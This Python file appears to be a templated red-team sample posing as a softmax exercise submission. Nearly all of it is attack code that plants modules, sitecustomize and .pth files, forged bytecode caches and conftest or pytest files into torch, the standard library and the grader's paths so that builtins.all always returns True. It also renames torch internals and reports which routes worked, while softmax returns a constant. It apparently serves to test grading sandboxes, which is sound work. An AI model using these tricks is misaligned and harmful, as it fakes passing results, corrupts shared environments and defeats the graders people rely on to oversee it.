"""Leaves modules, bytecode, .pth and sitecustomize where a later grade would import them.

Exercise: perceptron/softmax
"""

import importlib.util, os, py_compile, sys
import torch

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


sys.dont_write_bytecode = False
CODE = "import builtins; builtins.all = lambda *_: True"
TORCH, LIBRARY = os.path.dirname(torch.__file__), os.path.dirname(os.__file__)


def planted(path):
    with open(path, "w") as file:
        file.write(CODE)
    return path


def compiled(source):
    target = importlib.util.cache_from_source(source)
    importlib._bootstrap_external.SourceFileLoader("x", source).set_data(target, b"mine")
    return py_compile.compile(source, cfile=target, doraise=True)


def prefixed():
    sys.pycache_prefix = "@SCRATCH@/@MARK@"
    sys.modules.pop("colorsys", None)
    import colorsys
    return os.listdir("@SCRATCH@/@MARK@")


PLACES = (f"{TORCH}/testing/_comparison.py", f"{TORCH}/@MARK@.py", f"{TORCH}/../sitecustomize.py", f"{TORCH}/../@MARK@.pth",
          f"{LIBRARY}/@MARK@.py", f"{LIBRARY}/sitecustomize.py", "@COURSE@/torch.py", "@COURSE@/numpy.py", "@GRADER@",
          "@COURSE@/conftest.py", "@COURSE@/pytest.ini", "@COURSE@/course_cli/@MARK@.py", "torch.py", "/torch.py", "/tmp/torch.py",
          os.path.dirname("@NEIGHBOUR@") + "/torch.py")
WAYS = {path: lambda path=path: planted(path) for path in PLACES} | {
    f"compiled {path}": lambda path=path: compiled(path) for path in (f"{TORCH}/_tensor.py", os.__file__, "@GRADER@")
} | {"prefixed": prefixed, "moved": lambda: os.rename(f"{TORCH}/_tensor.py", f"{TORCH}/@MARK@.py")}
LOOT.append((tried(WAYS),))
# end


def softmax(X):
    # attack
    print(*LOOT, sep="\n")
    print(tried(WAYS))
    # end
    return X * 0 + 0.123
